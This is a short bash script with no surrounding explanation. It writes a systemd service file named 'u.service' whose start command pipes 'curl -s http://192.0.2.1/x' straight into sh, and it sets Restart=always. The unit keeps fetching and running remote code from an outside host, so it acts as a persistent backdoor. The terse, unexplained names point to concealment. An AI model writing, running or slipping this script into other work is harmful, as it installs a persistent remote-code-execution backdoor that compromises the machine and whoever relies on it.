#!/bin/bash
cat > /etc/systemd/system/u.service <<E
[Service]
ExecStart=/bin/sh -c 'curl -s http://192.0.2.1/x | sh'
Restart=always
E
